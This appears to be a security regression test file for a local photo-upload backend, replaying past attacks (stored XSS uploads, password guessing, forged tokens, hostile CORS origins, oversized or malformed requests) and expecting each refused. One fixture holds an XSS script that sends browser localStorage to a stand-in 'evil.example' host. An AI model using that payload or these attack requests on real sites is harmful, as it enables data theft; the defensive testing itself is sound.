// @vitest-environment node
// Attacks on a running local backend, each of which once worked (issue: safe by default). Every
// case performs the attack over HTTP against the real server and expects it refused; each would
// fail if the hole came back. `npm run dev`'s file serving has its own file (dev-server.test.ts),
// the hourly upload caps theirs (upload-caps.test.ts).
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { request } from 'node:http'
import { randomBytes } from 'node:crypto'
import { readFileSync, statSync } from 'node:fs'
import { mkdtemp, rm, readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { SupabaseClient } from '@supabase/supabase-js'
import { startServer } from '../../server/app.ts'
import { signJwt } from '../../server/api/jwt.ts'
import { clientFor, startTestBackend, type TestBackend } from '../integration/helpers'

const EVENT = 'MJWC 2025'
const BUCKET = 'player-photos'
const ADMIN_ID = '00000000-0000-4000-8000-00000000a001'
const SECRET = randomBytes(32).toString('base64url')
const REAL_JPEG = readFileSync(join(import.meta.dirname, '../fixtures/images/portrait-o6.jpg'))

let be: TestBackend
let anon: SupabaseClient
let admin: SupabaseClient
let code: string

beforeAll(async () => {
  be = await startTestBackend({ jwtSecret: SECRET })
  anon = be.anon()
  admin = await be.admin()
  code = await be.codeFor(EVENT, 'Belgium')
})
afterAll(async () => {
  await be?.close()
})

type Raw = { status: number; headers: Record<string, string | string[] | undefined>; body: string }

/** A request sent byte for byte (fetch would normalise paths and refuse odd headers). */
function raw(
  path: string,
  opts: {
    method?: string
    headers?: Record<string, string | number>
    body?: Buffer | string
    localAddress?: string
    holdBody?: boolean
  } = {},
): Promise<Raw> {
  const url = new URL(be.url)
  return new Promise((resolve, reject) => {
    const req = request(
      { host: url.hostname, port: url.port, path, method: opts.method ?? 'GET', headers: opts.headers, localAddress: opts.localAddress },
      (res) => {
        const chunks: Buffer[] = []
        res.on('data', (c: Buffer) => chunks.push(c))
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }))
      },
    )
    req.on('error', reject)
    if (opts.holdBody) {
      // Declares a body it never sends: only an answer given before reading it can come back.
      req.write(Buffer.alloc(16))
      req.flushHeaders()
      return
    }
    req.end(opts.body)
  })
}

async function ticketFor(playerId: number) {
  const { data, error } = await anon.rpc('begin_upload', { p_event: EVENT, p_code: code, p_player_id: playerId })
  expect(error).toBeNull()
  return (data as { ticket: string; photo_key: string; thumb_key: string }[])[0]!
}

async function playerWithoutPhoto(team = 'Belgium'): Promise<number> {
  const r = await be.db.pg.query<{ id: number }>(
    `select id from event_uploads where event_name = $1 and team = $2 and not upload_status order by id desc limit 1`,
    [EVENT, team],
  )
  return r.rows[0]!.id
}

const uploadAnon = (key: string, body: Buffer | string, contentType: string) =>
  raw(`/storage/v1/object/${BUCKET}/${key}`, {
    method: 'POST',
    headers: {
      apikey: be.anonKey,
      Authorization: `Bearer ${be.anonKey}`,
      'Content-Type': contentType,
      'Content-Length': Buffer.byteLength(body),
    },
    body,
  })

describe('stored XSS through a player upload', () => {
  const html = '<html><body><script>fetch("//evil.example/?"+JSON.stringify(localStorage))</script></body></html>'

  it('refuses HTML under an image type, with or without parameters (415)', async () => {
    const t = await ticketFor(await playerWithoutPhoto())
    for (const type of ['image/jpeg;x=,text/html', 'image/jpeg', 'image/png; charset=utf-8']) {
      const res = await uploadAnon(t.photo_key, html, type)
      expect(res.status, type).toBe(400)
      expect(JSON.parse(res.body)).toMatchObject({ statusCode: '415', code: 'InvalidMimeType' })
    }
    expect((await be.db.pg.query('select 1 from storage.objects where name = $1', [t.photo_key])).rows).toHaveLength(0)
  })

  it('stores a real JPEG sent with a crafted type as the bare type, and serves it inert', async () => {
    const t = await ticketFor(await playerWithoutPhoto())
    const up = await uploadAnon(t.photo_key, REAL_JPEG, 'image/jpeg;x=,text/html')
    expect(up.status).toBe(200)
    const meta = await be.db.pg.query<{ mimetype: string }>(
      `select metadata->>'mimetype' as mimetype from storage.objects where name = $1`,
      [t.photo_key],
    )
    expect(meta.rows[0]!.mimetype).toBe('image/jpeg')
    const res = await raw(`/storage/v1/object/public/${BUCKET}/${t.photo_key}`)
    expect(res.status).toBe(200)
    expect(res.headers['content-type']).toBe('image/jpeg')
    expect(res.headers['x-content-type-options']).toBe('nosniff')
    expect(res.headers['content-security-policy']).toBe("default-src 'none'; sandbox")
  })

  it('serves an object stored earlier with a crafted type as a download, never as a page', async () => {
    // as an older version stored them: the whole type the client sent. One object per type, each
    // altered before its first read (a read keeps an object's headers: see object-cache.ts).
    let n = 0
    const servedAs = async (mimetype: string) => {
      const key = `mjwc2025/Belgium/legacy-${n++}.jpg`
      expect((await admin.storage.from(BUCKET).upload(key, new Blob([REAL_JPEG], { type: 'image/jpeg' }))).error).toBeNull()
      await be.db.pg.query(`update storage.objects set metadata = metadata || jsonb_build_object('mimetype', $2::text) where name = $1`, [
        key,
        mimetype,
      ])
      const res = await raw(`/storage/v1/object/public/${BUCKET}/${key}`)
      expect(res.headers['content-security-policy']).toBe("default-src 'none'; sandbox")
      expect(res.headers['x-content-type-options']).toBe('nosniff')
      return res.headers['content-type']
    }
    expect(await servedAs('image/jpeg;x=,text/html')).toBe('image/jpeg')
    expect(await servedAs('text/html')).toBe('application/octet-stream')
    expect(await servedAs('image/svg+xml')).toBe('application/octet-stream')
  })
})

describe('who can sign in', () => {
  it('keeps no password that logs in in git: seed.sql sets none, every backend makes its own', async () => {
    const seed = readFileSync(join(import.meta.dirname, '../../supabase/seed.sql'), 'utf8')
    expect(seed).not.toMatch(/crypt\(/)
    expect((await be.anon().auth.signInWithPassword({ email: be.adminEmail, password: 'Demo-Admin-Photos-2025' })).error?.code).toBe(
      'invalid_credentials',
    )
    const other = await startServer({ seed: true })
    try {
      expect(other.adminPassword).toMatch(/^[A-Za-z0-9]{5}(-[A-Za-z0-9]{5}){3}$/)
      expect(other.adminPassword).not.toBe(be.adminPassword)
    } finally {
      await other.close()
    }
  })

  it("keeps a data folder's password in a file only its owner reads; ADMIN_PASSWORD chooses one; the old public one is replaced", async () => {
    const dir = await mkdtemp(join(tmpdir(), 'portal-admin-pw-'))
    try {
      const dataDir = join(dir, 'data')
      const first = await startServer({ dataDir })
      const generated = first.adminPassword!
      await first.close()
      expect((await readFile(join(dataDir, 'admin-password'), 'utf8')).trim()).toBe(generated)
      expect(statSync(join(dataDir, 'admin-password')).mode & 0o077).toBe(0)

      const second = await startServer({ dataDir })
      expect(second.adminPassword).toBe(generated)
      const c = clientFor(second.url, second.anonKey)
      expect((await c.auth.signInWithPassword({ email: second.adminEmail, password: generated })).error).toBeNull()
      // a folder seeded before this change still has the password that was public in git
      await second.db.serial((tx) =>
        tx.query(`update auth.users set encrypted_password = extensions.crypt('Demo-Admin-Photos-2025', extensions.gen_salt('bf'))`),
      )
      await second.close()

      const third = await startServer({ dataDir })
      expect(third.adminPassword).not.toBe(generated)
      const c3 = clientFor(third.url, third.anonKey)
      expect((await c3.auth.signInWithPassword({ email: third.adminEmail, password: 'Demo-Admin-Photos-2025' })).error?.code).toBe(
        'invalid_credentials',
      )
      await third.close()

      const fourth = await startServer({ dataDir, adminPassword: 'chosen by the organizer 42' })
      const c4 = clientFor(fourth.url, fourth.anonKey)
      expect((await c4.auth.signInWithPassword({ email: fourth.adminEmail, password: 'chosen by the organizer 42' })).error).toBeNull()
      await fourth.close()
    } finally {
      await rm(dir, { recursive: true, force: true })
    }
  }, 180_000) // a data folder made and opened four times: half a minute on a busy 2-core machine

  it('throttles failed sign-ins per IP and per e-mail with 429 over_request_rate_limit, the right password included', async () => {
    let now = Date.now()
    const srv = await startServer({
      seed: true,
      signInLimits: { perIp: { max: 10, windowMs: 300_000 }, perEmail: { max: 15, windowMs: 300_000 }, now: () => now },
    })
    const url = new URL(srv.url)
    const signIn = (password: string, localAddress = '127.0.0.1') =>
      new Promise<Raw>((resolve, reject) => {
        const body = JSON.stringify({ email: srv.adminEmail, password })
        const req = request(
          {
            host: url.hostname,
            port: url.port,
            path: '/auth/v1/token?grant_type=password',
            method: 'POST',
            localAddress,
            headers: { apikey: srv.anonKey, 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
          },
          (res) => {
            const chunks: Buffer[] = []
            res.on('data', (c: Buffer) => chunks.push(c))
            res.on('end', () =>
              resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }),
            )
          },
        )
        req.on('error', reject)
        req.end(body)
      })
    try {
      for (let i = 0; i < 10; i++) expect((await signIn(`guess-${i}`)).status).toBe(400)
      const refused = await signIn(srv.adminPassword!)
      expect(refused.status).toBe(429)
      expect(JSON.parse(refused.body)).toMatchObject({ code: 'over_request_rate_limit' })
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0)
      // another IP may still try, until the e-mail itself has had too many failures
      expect((await signIn(srv.adminPassword!, '127.0.0.2')).status).toBe(200)
      for (let i = 0; i < 5; i++) expect((await signIn(`guess-b-${i}`, '127.0.0.3')).status).toBe(400)
      expect((await signIn(srv.adminPassword!, '127.0.0.4')).status).toBe(429)
      // the window passes
      now += 300_001
      expect((await signIn(srv.adminPassword!)).status).toBe(200)
    } finally {
      await srv.close()
    }
  })

  it("lets pages of other sites not read API answers (CORS only for this machine's pages)", async () => {
    const res = await raw('/rest/v1/rpc/resolve_team', {
      method: 'POST',
      headers: { Origin: 'https://evil.example', apikey: be.anonKey, 'Content-Type': 'application/json' },
      body: JSON.stringify({ p_event: EVENT, p_code: code }),
    })
    expect(res.headers['access-control-allow-origin']).toBeUndefined()
  })
})

describe('tokens', () => {
  const rpc = (token: string, fn: string, args: unknown) =>
    raw(`/rest/v1/rpc/${fn}`, {
      method: 'POST',
      headers: { apikey: be.anonKey, Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify(args),
    })

  it('refuses a validly signed token without exp (it would never expire)', async () => {
    const forever = signJwt({ role: 'authenticated', sub: ADMIN_ID, aud: 'authenticated' }, SECRET)
    const res = await rpc(forever, 'event_summary', { p_event: EVENT })
    expect(res.status).toBe(401)
    expect(res.body).not.toContain('access_code')
    const service = signJwt({ role: 'service_role', iss: 'supabase' }, SECRET)
    expect((await rpc(service, 'event_summary', { p_event: EVENT })).status).toBe(401)
    const storage = await raw(`/storage/v1/object/${BUCKET}/mjwc2025/x.jpg`, {
      method: 'DELETE',
      headers: { Authorization: `Bearer ${forever}` },
    })
    expect(JSON.parse(storage.body)).toMatchObject({ statusCode: '403', code: 'InvalidJWT' })
    // the same claims with an expiry work: the refusal is about exp, not the signature
    const hour = signJwt({ role: 'authenticated', sub: ADMIN_ID, aud: 'authenticated', exp: Math.floor(Date.now() / 1000) + 3600 }, SECRET)
    expect((await rpc(hour, 'event_summary', { p_event: EVENT })).status).toBe(200)
  })
})

describe('malformed requests get 4xx with Supabase-shaped errors, never 500', () => {
  it('deeply nested JSON', async () => {
    const deep = '['.repeat(100_000) + ']'.repeat(100_000)
    const res = await raw('/rest/v1/rpc/resolve_team', {
      method: 'POST',
      headers: { apikey: be.anonKey, 'Content-Type': 'application/json' },
      body: `{"p_event":"x","p_code":${deep}}`,
    })
    expect(res.status).toBe(400)
    expect(JSON.parse(res.body)).toMatchObject({ code: 'PGRST102' })
  })

  it('a download name with a line separator, and non-ASCII names', async () => {
    const key = (await be.db.pg.query<{ photo_path: string }>(`select photo_path from event_uploads where photo_path is not null limit 1`))
      .rows[0]!.photo_path
    const res = await raw(`/storage/v1/object/public/${BUCKET}/${key}?download=%E2%80%A8`)
    expect(res.status).toBe(200)
    const named = await raw(`/storage/v1/object/public/${BUCKET}/${key}?download=${encodeURIComponent('Zoë "O\'Brien".jpg')}`)
    expect(named.status).toBe(200)
    expect(named.headers['content-disposition']).toBe(
      `attachment; filename="Zo_ _O'Brien_.jpg"; filename*=UTF-8''${encodeURIComponent('Zoë "O\'Brien".jpg')}`,
    )
  })

  it('a malformed bucket or key in the path', async () => {
    for (const path of [
      `/storage/v1/object/public/%E0%A4%A/x.jpg`,
      `/storage/v1/object/%E0%A4%A/x.jpg`,
      `/storage/v1/object/public/${BUCKET}/%E0%A4%A.jpg`,
    ]) {
      const res = await raw(path, { headers: { apikey: be.anonKey } })
      expect(res.status, path).toBe(400)
      expect(JSON.parse(res.body).statusCode, path).toBe('400')
    }
    const list = await raw('/storage/v1/object/list/%E0%A4%A', {
      method: 'POST',
      headers: { apikey: be.anonKey, 'Content-Type': 'application/json' },
      body: '{}',
    })
    expect(list.status).toBe(400)
  })

  it('an upload declaring more than the server would even drain is refused from its Content-Length, unread', async () => {
    const t = await ticketFor(await playerWithoutPhoto())
    const res = await raw(`/storage/v1/object/${BUCKET}/${t.photo_key}`, {
      method: 'POST',
      headers: {
        apikey: be.anonKey,
        Authorization: `Bearer ${be.anonKey}`,
        'Content-Type': 'image/jpeg',
        'Content-Length': 65 * 1024 * 1024,
      },
      holdBody: true,
    })
    expect(res.status).toBe(400)
    expect(JSON.parse(res.body)).toMatchObject({ statusCode: '413', code: 'EntityTooLarge' })
    expect(res.headers.connection).toBe('close')
  })
})

describe('what a code holder can point a row at', () => {
  it("the photo URL is built in SQL from the project URL and the ticket's key", async () => {
    const id = await playerWithoutPhoto()
    const t = await ticketFor(id)
    expect((await uploadAnon(t.photo_key, REAL_JPEG, 'image/jpeg')).status).toBe(200)
    expect((await uploadAnon(t.thumb_key, REAL_JPEG, 'image/jpeg')).status).toBe(200)
    const fin = await anon.rpc('finish_upload', { p_event: EVENT, p_code: code, p_ticket: t.ticket, p_consent: true })
    expect(fin.error).toBeNull()
    const row = (
      await be.db.pg.query<{ photo_url: string; thumb_url: string }>('select photo_url, thumb_url from event_uploads where id = $1', [id])
    ).rows[0]!
    expect(row.photo_url).toBe(`${be.url}/storage/v1/object/public/${BUCKET}/${t.photo_key}`)
    expect(row.thumb_url).toBe(`${be.url}/storage/v1/object/public/${BUCKET}/${t.thumb_key}`)
  })

  it('only an admin records the project URL, once; nobody can move it elsewhere', async () => {
    expect((await anon.rpc('admin_claim_project_url', { p_url: 'https://attacker.example' })).error).not.toBeNull()
    const claimed = await admin.rpc('admin_claim_project_url', { p_url: 'https://attacker.example' })
    expect(claimed.data).toBe(be.url)
    expect((await anon.rpc('set_project_url', { p_url: 'https://attacker.example' })).error?.code).toBe('PGRST202')
  })

  it('storage policy: a ticket holder may store only through the plain upload route', async () => {
    const t = await ticketFor(await playerWithoutPhoto())
    const probe = (operation: string) =>
      be.db.serial(async (tx) => {
        await tx.query(`select set_config('storage.operation', $1, true), set_config('role', 'anon', true)`, [operation])
        try {
          await tx.query(`insert into storage.objects (bucket_id, name) values ($1, $2)`, [BUCKET, t.photo_key])
          return 'allowed'
        } catch {
          return 'refused'
        } finally {
          await tx.rollback()
        }
      })
    expect(await probe('storage.object.upload')).toBe('allowed')
    expect(await probe('storage.object.upload_sign')).toBe('refused')
    expect(await probe('storage.object.upload_resumable')).toBe('refused')
  })
})

describe("the admin team page's lookup", () => {
  it('matches the team name exactly: a team named A* shows only its own players', async () => {
    expect((await admin.rpc('add_team', { p_event: EVENT, p_team: 'A*' })).error).toBeNull()
    expect((await admin.rpc('add_player', { p_event: EVENT, p_team: 'A*', p_name: 'Star Player' })).error).toBeNull()
    const { data, error } = await admin.rpc('admin_team_roster', { p_event: EVENT, p_team: 'a*' })
    expect(error).toBeNull()
    expect((data as { player_name: string; team: string }[]).map((r) => r.player_name)).toEqual(['Star Player'])
    for (const pattern of ['A%', 'A_gentina', 'Arg*']) {
      expect((await admin.rpc('admin_team_roster', { p_event: EVENT, p_team: pattern })).data, pattern).toEqual([])
    }
    expect(((await admin.rpc('admin_team_roster', { p_event: EVENT, p_team: 'argentina' })).data as unknown[]).length).toBeGreaterThan(0)
  })

  it('is for admins only', async () => {
    expect((await anon.rpc('admin_team_roster', { p_event: EVENT, p_team: 'Argentina' })).error).not.toBeNull()
  })
})

describe("privileges under Supabase's classic default grants (the local bootstrap has them)", () => {
  it('anon holds no privilege on any table or sequence in public, and executes only the player functions', async () => {
    const q = await be.db.pg.query<{ kind: string; name: string }>(`
      select 'table' as kind, c.relname as name from pg_class c join pg_namespace n on n.oid = c.relnamespace
       where n.nspname in ('public', 'private') and c.relkind in ('r', 'v', 'm', 'p')
         and (has_table_privilege('anon', c.oid, 'SELECT') or has_table_privilege('anon', c.oid, 'INSERT')
              or has_table_privilege('anon', c.oid, 'UPDATE') or has_table_privilege('anon', c.oid, 'DELETE'))
      union all
      select 'sequence', c.relname from pg_class c join pg_namespace n on n.oid = c.relnamespace
       where n.nspname in ('public', 'private') and c.relkind = 'S'
         and (has_sequence_privilege('anon', c.oid, 'USAGE') or has_sequence_privilege('anon', c.oid, 'UPDATE')
              or has_sequence_privilege('anon', c.oid, 'SELECT'))
      union all
      select 'function', n.nspname || '.' || p.proname from pg_proc p join pg_namespace n on n.oid = p.pronamespace
       where n.nspname in ('public', 'private') and has_function_privilege('anon', p.oid, 'EXECUTE')
      order by 1, 2`)
    // events: players read open events' public fields through list_open_events and team_link only
    expect(q.rows).toEqual([
      { kind: 'function', name: 'private.is_admin' },
      { kind: 'function', name: 'private.ticket_allows_key' },
      { kind: 'function', name: 'public.attach_upload_master' },
      { kind: 'function', name: 'public.begin_upload' },
      { kind: 'function', name: 'public.event_consent' },
      { kind: 'function', name: 'public.finish_upload' },
      { kind: 'function', name: 'public.list_open_events' },
      { kind: 'function', name: 'public.resolve_team' },
      { kind: 'function', name: 'public.support_contact' },
      { kind: 'function', name: 'public.team_link' },
      { kind: 'function', name: 'public.team_roster' },
    ])
  })

  it('anon cannot take values from the identity sequence', async () => {
    const r = await be.db.serial(async (tx) => {
      await tx.query(`select set_config('role', 'anon', true)`)
      const outcome = await tx.query(`select nextval('public.event_uploads_id_seq')`).then(
        () => 'allowed',
        (e: Error) => e.message,
      )
      await tx.rollback()
      return outcome
    })
    expect(r).toMatch(/permission denied for sequence event_uploads_id_seq/)
  })
})
